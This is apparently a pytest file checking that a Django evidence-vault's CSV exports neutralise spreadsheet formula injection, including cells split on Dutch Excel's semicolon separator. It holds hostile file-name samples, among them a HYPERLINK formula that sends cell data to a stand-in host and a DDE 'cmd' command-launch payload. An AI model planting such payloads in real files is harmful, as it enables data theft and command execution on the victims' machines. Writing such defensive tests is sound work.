"""L5: a spreadsheet must never run a formula from an export, whichever list separator it uses.

Dutch Excel opens CSV files with ';' as the list separator. A file name such as
`x;=HYPERLINK(...).txt` then splits into a second cell that starts with '=' and runs as a formula.
"""

import csv
import io

import pytest
from django.urls import reverse

from meldpunt.accounts.models import Role
from meldpunt.vault import services as vault_services
from meldpunt.vault.models import EvidenceFile
from tests.vault import samples

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAMES = [
    "x;=HYPERLINK(%22https:||evil.example?%22&A1;%22klik%22).txt",
    "y;+cmd|' -C calc'!A0.txt",
    "z;@SUM(1+1).txt",
    "w; -2+3.txt",
    "v,=1+2.txt",
]


def _cells_as_a_spreadsheet_sees_them(text: str):
    """Every cell the file yields under each list separator, read as Excel reads it and split naively."""
    for separator in (",", ";", "\t", "|"):
        for row in csv.reader(io.StringIO(text), delimiter=separator):
            yield from row
        for line in text.splitlines():
            yield from line.split(separator)


def _assert_no_live_formula(text: str):
    for cell in _cells_as_a_spreadsheet_sees_them(text):
        shown = cell.strip().strip('"').lstrip()
        assert not shown.startswith(TRIGGERS), f"live formula cell: {cell!r}"


@pytest.fixture
def handler(staff_factory, post):
    return staff_factory(Role.CCI_HANDLER, post=post)


def _add_file(report, name, handler, django_capture_on_commit_callbacks):
    upload = samples.temporary_upload(samples.TEXT + name.encode(), name)  # distinct content: no dedup
    media_type = vault_services.upload_check(upload=upload, max_bytes=10 * 1024 * 1024)
    with django_capture_on_commit_callbacks(execute=True):
        vault_services.evidence_add(
            report=report, upload=upload, media_type=media_type, source=EvidenceFile.Source.STAFF,
            uploaded_by=handler, description="",
        )


def test_the_evidence_register_has_no_live_formula_with_semicolon_as_separator(
    report_factory, handler, client_for, django_capture_on_commit_callbacks
):
    report = report_factory().report
    for name in HOSTILE_NAMES:
        _add_file(report, name, handler, django_capture_on_commit_callbacks)
    response = client_for(handler).get(reverse("cases:evidence-register", kwargs={"report_id": report.pk}))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "HYPERLINK" in text and "calc" in text  # the names are there, as text
    _assert_no_live_formula(text)
    # read back with the comma the file was written with, each name is still whole and readable
    names = {row["file_name"] for row in csv.DictReader(io.StringIO(text))}
    assert any(n.startswith("x;'=HYPERLINK") for n in names), names


@pytest.mark.parametrize("value", [
    "=1+2", "+1", "-1", "@SUM(1)", "\t=1", "a;=1", "a,+1", "a\t@x", "a\n-1", "a\r\n=1", "a; =1", "a|=1",
    "reason; \t=cmd", "'=already quoted",
])
def test_the_cell_guard_neutralises_a_formula_after_any_separator(value):
    from meldpunt.spreadsheet import csv_text

    _assert_no_live_formula(csv_text([["ok", value, "2026-12-01T10:00:00+00:00"]]))


def test_ordinary_values_are_written_unchanged():
    from meldpunt.spreadsheet import csv_cell

    for value in ("IMG_0042.jpg", "2026-12-01T10:00:00+00:00", "a-b c+d", "e3b0c44298fc1c149afbf4c8996fb924", ""):
        assert csv_cell(value) == value
